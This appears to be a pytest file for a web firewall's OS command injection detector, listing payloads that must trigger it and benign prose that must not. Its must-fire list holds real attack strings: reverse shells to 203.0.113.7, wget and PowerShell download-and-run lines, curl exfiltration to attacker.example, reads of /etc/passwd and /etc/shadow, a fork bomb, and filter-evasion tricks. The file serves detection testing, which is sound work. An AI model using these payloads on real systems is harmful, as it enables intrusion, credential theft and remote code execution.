"""OS command injection: what must fire and what must not, through the engine."""

from __future__ import annotations

import pytest

from tests.detect.family_cases import benign_values, families, levels_firing, rule_ids

# Unix and Windows injections, with the evasions attackers use.
MUST_FIRE = [
    "; cat /etc/passwd",
    "1.1.1.1; id",
    "127.0.0.1 && whoami",
    "x || wget http://203.0.113.7/s.sh -O /tmp/s.sh",
    "| nc -e /bin/sh 203.0.113.7 4444",
    "`id`",
    "$(whoami)",
    "ax--exec=`id`--remote=origin",
    "; cat /et'c/pa'ss'wd",
    '; c""at /etc/shadow',
    "| c\\at /etc/passwd",
    "www.example.com;c$@at /et$@c/pas$@swd",
    ";cat${IFS}/etc/passwd",
    ";getent$IFS$9hosts$IFS$9example.org",
    "{cat,/etc/passwd}",
    "/bin/c?t /etc/p?sswd",
    "/???/??t /???/p??s??",
    "cat /etc/pa[s]swd",
    "time sh -c whoami",
    "nohup ifconfig",
    "ifconfig eth0",
    "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
    "cat<<<ifconfig",
    "echo hi > /tmp/x",
    "$SHELL -c 'echo hi'",
    "/usr/bin/perl -e 'print 1'",
    'python3 -c "import os"',
    "py''thon -c \"print(1)\"",
    "pi``ng 127.0.0.1",
    "alias ll='ls -al'",
    "f(){ f|f& };f",
    "{,ifconfig}",
    "c{a,oun}t",
    "{,ip,a}",
    "{id,}",
    "{,echo,#test}",
    "~+",
    "a=curl&&b=`whoami`&&$a attacker.example/$b",
    "|$u wget example.org",
    ";set",
    "\\ls",
    "cd /;cd etc;column passwd",
    "| set /a 3482*7301",
    "& ping -n 5 127.0.0.1",
    "cmd /c dir",
    "cmd.exe /c whoami",
    "powershell -enc SQBFAFgA",
    "powershell C:\\windows\\system32\\notepad.exe",
    "Invoke-WebRequest http://203.0.113.7/a.ps1",
    ";iex (iwr http://203.0.113.7/x.ps1)",
    "IEX (New-Object Net.WebClient).DownloadString('http://x/a')",
    "for /f \"delims=\" %i in ('cmd /c whoami') do @echo %i",
    "FOR %G IN (a,b,c) DO echo %G",
    # Pinned: a quoted option with a space was lost next to the SQLi rules.
    'FOR /F "tokens=1,3 delims=," %%G IN (weather.txt) DO @echo %%G',
    "IF EXIST C:\\pagefile.sys CMD",
    'if "%VAR%" == "x" echo same',
    "IF NOT DEFINED _example ECHO Value Missing",
    "IF %ERRORLEVEL% NEQ 0 echo failed",
    # A command name split by quotes, glued variables, $"..." quoting.
    "'wh'oami",
    "'i'fconfig",
    "'i'p a",
    "'c'url localhost",
    '"w"get localhost',
    "ti''me who",
    '{,$"whoami",}',
    "x=foo;cat$u+/etc$u/passwd",
    # A command word with a path into a system directory.
    "cat /etc/\\passw\\d",
    "ll /var/www/",
    "'ll' /var/www/",
    # A cmd.exe switch glued to the program name.
    "view=image.jpg&bcdboot/r file.txt",
    # A command after a runner prefix; a package manager installing.
    "nohup who",
    "strace who",
    "sudo reboot",
    "pip3 install something",
    "npm install left-pad",
    "apt-get remove openssh-server",
    # Wildcards and bracket classes in a path, and the classes that hide a
    # wildcard ("[?]") from a filter looking for one.
    "cat /[?]tc/pa[?]swd",
    "cat /e[t]c/pa??wd",
    "ls /a[b///]c",
    "ls /???/",
    "/[e///]tc",
    "/bin/c[a]t /etc/hosts",
    # The empty arithmetic expansion, a probe for a shell.
    "$[]",
]

# Prose with command words and shell punctuation (and the shared benign set).
MUST_NOT_FIRE = [
    "cat food | dog food",
    "rm 101",
    "ls 300 lexus",
    "nc 8000 controller",
    "echo in the mirror",
    "curl and divergence",
    "bash away in the gym",
    "Tom & Jerry",
    "Marks & Spencer; more than a shop",
    "Meeting; date TBD",
    "Fish & chips | sort of",
    "Raleigh\nNC 27601",
    "PS: see the attached invoice",
    "Please find the file; more info below",
    "If defined by the user, the limit applies",
    "for the month in (March) we paid twice",
    "Use the bin/ folder for receipts",
    "Total $100 (approx)",
    "Salary for % in (Q1) reported",
    "Sort by amount | then by date",
    "/api/v1/payments?page=2",
    "https://example.com/search?q=cat",
    "&copy 2024 Example Bank",
    "Pets allowed: {cat,dog}",
    "report{1,2}.pdf",
    "Sizes {S,M,L,}",
    "{,}",
    "template {name,}",
    "O'Keefe's bakery",
    "I'd rather pay on Friday",
    "rock'n'roll night",
    'That\'s two "O"s in goose',
    'Size: 8"x11" paper',
    "the 'time' field, the \"id\" column",
    "Dr. 'Who' fan club",
    "A$AP Rocky tickets",
    "Copy the home folder to /home/shared",
    "Move /tmp files? no",
    "curl/7.88.1",
    "time who knows",
    "Brew install kit for the cafe",
    "Snap install of the new shelf",
    "Yarn add-on for the knitting class",
    "Gem install fee",
    "An apt install of the sign",
    "find /[a-z]+/ in the text",
    "open /search?q=x",
    "$[0].name",
    "Use /[0-9]+/ for digits",
    "Read -only access",
    "Set date for the meeting",
    "ls foo bar",
    "!!",
    "LS",
    "id",
    "Vaciar carrito|",
]


@pytest.mark.parametrize("payload", MUST_FIRE)
def test_injection_fires(payload: str) -> None:
    assert "cmdi" in families(payload, "query", "host")


@pytest.mark.parametrize("payload", MUST_NOT_FIRE + benign_values())
def test_prose_passes(payload: str) -> None:
    assert "cmdi" not in families(payload, "json", "$.memo")


def test_value_start_needs_shell_arguments() -> None:
    # A command word that opens a value counts only with shell-like
    # arguments at paranoia 1; paranoia 2 is more eager.
    assert "cmdi" not in families("curl and divergence")
    assert "cmdi.unix_probable" in rule_ids("curl and divergence", paranoia=2)


def test_batch_if_needs_a_command() -> None:
    assert "cmdi.batch_if" not in rule_ids("If defined by the user, it applies")
    assert "cmdi.batch_if" in rule_ids("IF DEFINED user ECHO yes")


# (payload, rule, paranoia level): each fires at its level and above only;
# MUST_NOT_FIRE holds each payload or its look-alike at paranoia 1.
EAGER_TESTS = [
    ("Read -only access", "cmdi.command_args", 2),
    ("cat /path/file.gz", "cmdi.command_args", 2),
    ("find /[a-z]+/ in the text", "cmdi.command_args", 2),
    ("Vaciar carrito|", "cmdi.trailing_pipe", 2),
    ("|", "cmdi.trailing_pipe", 2),
    ("3| ", "cmdi.trailing_pipe", 2),
    ("ls foo bar", "cmdi.command_start", 3),
    ("python3.10 cmd", "cmdi.command_start", 3),
    ("time date", "cmdi.command_start", 3),
    ("!!", "cmdi.history_event", 3),
    ("!-1", "cmdi.history_event", 3),
    ("id", "cmdi.bare_command", 4),
    ("'whoami'", "cmdi.bare_command", 4),
]


@pytest.mark.parametrize(("payload", "rule_id", "level"), EAGER_TESTS)
def test_eager_rules_fire_at_their_level_only(
    payload: str, rule_id: str, level: int
) -> None:
    assert levels_firing(payload, rule_id) == list(range(level, 5))


@pytest.mark.parametrize(
    "text",
    [
        # Pinned: gotestwaf's false-positive texts fired cmdi.command_start
        # at paranoia 3 before it looked for function words and numbers.
        "bash away in the gym",
        "zsh is the best!",
        "ls 300 lexus",
        "nc 8000 controller",
        "Make time for the team",
        "Set date for the meeting",
        "LS",  # initials: the paranoia 4 rule reads lower case only
        "PS",
        "a|b|c|",  # a delimited list, not a command for open()
        "| Name | Amount |",
    ],
)
def test_eager_rules_pass_prose_at_paranoia_4(text: str) -> None:
    found = rule_ids(text, "query", "q", 4)
    assert not found & {"cmdi.command_start", "cmdi.bare_command", "cmdi.trailing_pipe"}
